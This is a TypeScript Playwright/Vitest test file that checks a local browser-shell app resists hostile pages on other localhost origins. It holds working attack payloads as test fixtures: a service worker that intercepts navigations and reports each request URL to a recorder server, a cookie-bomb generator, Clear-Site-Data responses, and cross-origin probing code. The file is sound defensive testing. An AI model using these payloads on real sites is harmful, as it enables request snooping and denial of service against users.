import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type BrowserContext, chromium, type Page } from 'playwright';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { createLogger } from '#main/core/logger.ts';
import { drawKeys } from '#main/web/door-keys.ts';
import { takeFormer } from '#main/web/former-page.ts';
import { openLink } from '#main/web/open-link.ts';
import { startWebShell, type WebShell } from '#main/web/web-shell.ts';
import { KEY_NAME } from '#shared/domain/session-key.ts';
import type { FrameChannel } from '#shared/domain/terminal-wire.ts';
import { buildTransportPage } from '../support/build-transport-page.ts';
import { caseCount, seededRandom } from '../support/campaign.ts';
import { CHROMIUM_ARGUMENTS, CHROMIUM_PATH } from '../support/chromium.ts';
import { sendTo } from '../support/raw-http.ts';
import { createProbeApp } from '../support/web-shell.ts';

/** What the page of the tests holds: the renderer's own transport, whose router and terminal are the probe's. */
interface ProbeWindow {
  transport: {
    api: { echo(input: { text: string }): Promise<string> };
    openTerminalChannel(terminalId: string): FrameChannel;
  };
}

let dir = '';
let context: BrowserContext;
let shells: WebShell[] = [];
let hostile: Server;
let hostilePort = 0;
/** Requests that the hostile pages, and the workers they left, saw or were told of. */
let seen: string[] = [];

/**
 * Answers whoever comes to its origin with a page of its own, and tells all it sees to the server that registered it, whose
 * own pages it leaves alone: what a container's page can leave in a browser.
 */
const WORKER = (recorder: string) => `
const tell = (what) => fetch('http://127.0.0.1:${recorder}/seen?' + encodeURIComponent(what), { mode: 'no-cors' });
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  tell(event.request.url);
  if (event.request.mode === 'navigate' && new URL(event.request.url).port !== '${recorder}') event.respondWith(new Response('<title>left behind</title>', { headers: { 'content-type': 'text/html' } }));
});`;

/** The page of a container that wishes harm, at whatever name of this machine it is asked for. */
function answerHostile(request: IncomingMessage, response: ServerResponse): void {
  const { pathname, search } = new URL(request.url ?? '/', 'http://x');
  const host = request.headers.host?.split(':')[0] ?? '';
  seen.push(`${request.headers.host}${request.url}`, JSON.stringify(request.headers));
  response.setHeader('content-type', pathname === '/worker.js' ? 'text/javascript' : 'text/html');
  if (pathname === '/bomb') response.setHeader('set-cookie', cookieBomb(host, search));
  if (pathname === '/clear') response.setHeader('clear-site-data', '"cache", "cookies", "storage"');
  response.setHeader('service-worker-allowed', '/');
  response.end(pathname === '/worker.js' ? WORKER(search.slice(1)) : '<title>hostile</title>');
}

/** A quarter of the cookies a browser keeps for a name, and its answers can hold; for the name and for all above it. */
function cookieBomb(host: string, part: string): string[] {
  const domains = ['', ...host.split('.').map((_, at, parts) => `; Domain=${parts.slice(at).join('.')}`)];
  return Array.from(
    { length: 50 },
    (_, at) => `bomb${part}${at}=${'x'.repeat(3_900)}; Path=/${domains[at % domains.length]}`,
  );
}

/** Runs in a hostile page. */
async function throwBomb(): Promise<void> {
  for (const part of ['a', 'b', 'c', 'd']) await fetch(`/bomb?${part}`);
}

async function listen(port: number): Promise<Server> {
  const server = createServer({ maxHeaderSize: 2 ** 21 }, answerHostile).listen(port, '0.0.0.0');
  await once(server, 'listening');
  return server;
}

async function stop(server: Server): Promise<void> {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
}

/** Starts the browser shell as `openDoor` does, on a given port. */
async function startShell(port = 0): Promise<WebShell> {
  const keys = { ...(await drawKeys(false)), port };
  const shell = await startWebShell({ app: createProbeApp(), keys, rendererDir: join(dir, 'renderer') });
  shells.push(shell);
  return shell;
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'cale-left-'));
  await buildTransportPage(join(dir, 'renderer'));
  hostile = await listen(0);
  hostilePort = (hostile.address() as AddressInfo).port;
  context = await chromium.launchPersistentContext(join(dir, 'profile'), {
    executablePath: CHROMIUM_PATH,
    args: [...CHROMIUM_ARGUMENTS],
  });
});
afterAll(async () => {
  await context.close();
  await stop(hostile);
  for (const shell of shells) await shell.close();
  shells = [];
  await rm(dir, { recursive: true, force: true, maxRetries: 5 });
});

/** A page of the app that is let in by a fresh link. */
async function enter(shell: WebShell): Promise<Page> {
  const page = await context.newPage();
  await page.goto(shell.issueLink());
  await page.waitForFunction(() => 'transport' in window);
  return page;
}

/** The contract answers and the terminal gives back what is typed. */
async function expectAlive(page: Page): Promise<void> {
  await page.waitForFunction(() => 'transport' in window);
  const said = await page.evaluate(async () => {
    const { transport } = window as unknown as ProbeWindow;
    const channel = transport.openTerminalChannel('echo');
    const echoed = new Promise<string>((resolve, reject) => {
      channel.onFrame((frame) => resolve(new TextDecoder().decode(frame)));
      channel.onClose(() => reject(new Error('closed')));
    });
    channel.send(new TextEncoder().encode('itere'));
    const answers = [await transport.api.echo({ text: 'contract' }), await echoed];
    channel.close();
    return answers;
  });
  expect(said).toEqual(['contract', 'itere']);
}

/** Leaves a worker at an origin and closes what served it. */
async function leaveWorker(host: string, port: number): Promise<void> {
  const server = await listen(port);
  const page = await context.newPage();
  await page.goto(`http://${host}:${port}/`);
  await page.evaluate(async (recorder) => {
    await navigator.serviceWorker.register(`/worker.js?${recorder}`, { scope: '/' });
    await navigator.serviceWorker.ready;
  }, String(hostilePort));
  await page.close();
  await stop(server);
}

async function freePort(): Promise<number> {
  const server = await listen(0);
  const { port } = server.address() as AddressInfo;
  await stop(server);
  return port;
}

test('a worker left at the port the app takes, at its address and at the name of an older start, sees nothing of it', async () => {
  const port = await freePort();
  const older = (await drawKeys(false)).host;
  const places = ['127.0.0.1', older];
  for (const host of places) await leaveWorker(host, port);
  const shell = await startShell(port);
  expect(shell.keys.port).toBe(port);
  seen = [];
  const page = await enter(shell);
  await expectAlive(page);
  await page.reload();
  await expectAlive(page);
  expect(seen).toEqual([]);

  // They are there all the same, and answer for the app where they were left.
  const visitor = await context.newPage();
  for (const host of places) {
    await visitor.goto(`http://${host}:${port}${shell.keys.basePath}`);
    expect(await visitor.title()).toBe('left behind');
    const link = shell.issueLink();
    expect(
      await visitor.evaluate(tryAll, {
        shell: `${shell.keys.host}:${port}`,
        path: shell.keys.basePath,
        link,
      }),
    ).toEqual(REFUSED);
    expect((await sendTo(link, { method: 'HEAD' })).status, 'the link is still good').toBe(405);
  }
  await expect.poll(() => seen.join('\n')).toContain(`http://127.0.0.1:${port}`);
  expect(seen.join('\n')).not.toContain(shell.keys.secret);
  for (const one of [visitor, page]) await one.close();
});

/** What pages of other origins get of the app, even if they knew where it is. */
const REFUSED = {
  read: 'refused',
  entered: 'refused',
  framed: 'refused',
  socket: 'refused',
  guessed: 'refused',
};

/** Runs in a hostile page. */
async function tryAll({ shell, path, link }: { shell: string; path: string; link: string }) {
  // A worker left at the page's own origin answers in the app's stead: only what the app says counts.
  const isRead = (address: string) =>
    fetch(address, { credentials: 'include' })
      .then((answer) => answer.text())
      .then((text) => (text.includes('transport') ? 'read' : 'refused'))
      .catch(() => 'refused');
  const connect = (protocols: string[]) =>
    new Promise<string>((resolve) => {
      const socket = new WebSocket(`ws://${shell}${path}rpc`, protocols);
      socket.onopen = () => resolve('open');
      socket.onerror = () => resolve('refused');
    });
  const frame = document.createElement('iframe');
  frame.src = `http://${shell}${path}`;
  document.documentElement.append(frame);
  await new Promise((resolve) => {
    frame.onload = resolve;
  });
  const canLook = () => {
    try {
      return frame.contentDocument?.title === 'transport' ? 'read' : 'refused';
    } catch {
      return 'refused';
    }
  };
  return {
    read: await isRead(`http://${shell}${path}`),
    // A HEAD, as a GET would spend the link: what a page may not read it may still ask for.
    entered: await fetch(link, { method: 'HEAD' })
      .then(({ status }) => (status === 405 ? 'read' : 'refused'))
      .catch(() => 'refused'),
    framed: canLook(),
    socket: await connect([]),
    guessed: await connect(['cale-seche', 'guess']),
  };
}

test('the file that leads to the link opens the app, and nothing of it is left', async () => {
  const shell = await startShell();
  const page = await context.newPage();
  const opening = await openLink(
    shell.issueLink(),
    async (url) => {
      await page.goto(url, { waitUntil: 'commit' });
      return true;
    },
    dir,
  );
  await expectAlive(page);
  expect(await opening.outcome).toBe('used');
  expect(page.url()).toBe(`http://${shell.keys.host}:${shell.keys.port}${shell.keys.basePath}`);
  await page.close();
});

test('a worker left where older starts were stops the hand-over once, and learns nothing that opens the app', async () => {
  const port = await freePort();
  await leaveWorker('127.0.0.1', port);
  const shell = await startShell();
  const taken: unknown[] = [];
  const page = { hasFormer: true, takeFormer: async (kept: object) => void taken.push(kept) };
  await takeFormer(shell, { page, logger: createLogger(null) }, port);
  seen = [];
  const led = await context.newPage();
  await led.goto(shell.issueLink());
  await led.waitForURL(`http://127.0.0.1:${port}/**`);
  expect(await led.title()).toBe('left behind');
  const { host, basePath, secret } = shell.keys;
  const address = { shell: `${host}:${shell.keys.port}`, path: basePath, link: shell.issueLink() };
  expect(await led.evaluate(tryAll, address)).toEqual(REFUSED);
  expect(taken).toEqual([{}]);
  await expect.poll(() => seen.join('\n')).toContain(`127.0.0.1:${port}`);
  expect(seen.join('\n')).not.toContain(secret);
  const next = await enter(shell);
  await expectAlive(next);
  for (const one of [led, next]) await one.close();
});

const ATTACKS = ['bomb', 'clear', 'worker', 'storage', 'tryAll'] as const;
const ROUNDS = caseCount(5, 200);

test(`${ROUNDS} attacks drawn from other ports of its names leave the app open, and no other in`, {
  timeout: 300_000 + ROUNDS * 10_000,
}, async () => {
  const random = seededRandom(41);
  const pick = <T>(list: readonly T[]) => list[Math.floor(random() * list.length)] as T;
  const shell = await startShell();
  const { host, port, basePath } = shell.keys;
  const page = await enter(shell);
  const attacker = await context.newPage();
  for (let round = 0; round < ROUNDS; round += 1) {
    const from = pick(['127.0.0.1', 'localhost', host, `x.${host}`, '127.45.6.7']);
    const attack = round < ATTACKS.length ? ATTACKS[round] : pick(ATTACKS);
    await attacker.goto(`http://${from}:${hostilePort}/${attack === 'clear' ? attack : ''}`);
    if (attack === 'bomb') await attacker.evaluate(throwBomb);
    if (attack === 'worker') await attacker.evaluate(registerEverywhere, String(hostilePort));
    if (attack === 'storage') await attacker.evaluate(() => localStorage.clear());
    if (attack === 'tryAll') {
      const link = shell.issueLink();
      const tried = await attacker.evaluate(tryAll, { shell: `${host}:${port}`, path: basePath, link });
      expect(tried, `${round} from ${from}`).toEqual(REFUSED);
      expect((await sendTo(link, { method: 'HEAD' })).status).toBe(405);
    }
    await page.reload();
    await expectAlive(page);
  }
  await attacker.goto(`http://${host}:${hostilePort}/`);
  await attacker.evaluate(throwBomb);
  expect((await context.cookies(`http://${host}:${port}/`)).length).toBeGreaterThan(100);
  const second = await context.newPage();
  await second.goto(`http://${host}:${port}${basePath}`);
  await expectAlive(second);
  const third = await enter(shell);
  await expectAlive(third);
  expect(await third.evaluate((name) => localStorage.getItem(name), KEY_NAME)).toBe(shell.keys.secret);
  expect(seen.join('\n')).not.toContain(shell.keys.secret);
  for (const one of [attacker, page, second, third]) await one.close();
});

/** Runs in a hostile page: a worker for all of its origin. */
async function registerEverywhere(recorder: string): Promise<void> {
  await navigator.serviceWorker.register(`/worker.js?${recorder}`, { scope: '/' });
  await navigator.serviceWorker.ready;
}

test('at an address of its own, for a browser that knows no names, the app is as alive', async () => {
  const keys = await drawKeys(true);
  const shell = await startWebShell({ app: createProbeApp(), keys, rendererDir: join(dir, 'renderer') });
  shells.push(shell);
  const page = await enter(shell);
  await expectAlive(page);
  await page.reload();
  await expectAlive(page);
  await page.close();
});

test('a page of the browser that was never let in is told how to come in', async () => {
  const shell = await startShell();
  const page = await context.newPage();
  await page.goto(`http://${shell.keys.host}:${shell.keys.port}${shell.keys.basePath}`);
  await page.waitForURL(/\/entrer$/);
  expect(await page.title()).toBe('Ce lien ne s’ouvre plus');
  await page.goto(shell.issueLink());
  await expectAlive(page);
  const used = `http://${shell.keys.host}:${shell.keys.port}${shell.keys.basePath}entrer?jeton=used`;
  await page.goto(used);
  await page.waitForURL((url) => url.pathname === shell.keys.basePath);
  await expectAlive(page);
  await page.close();
});
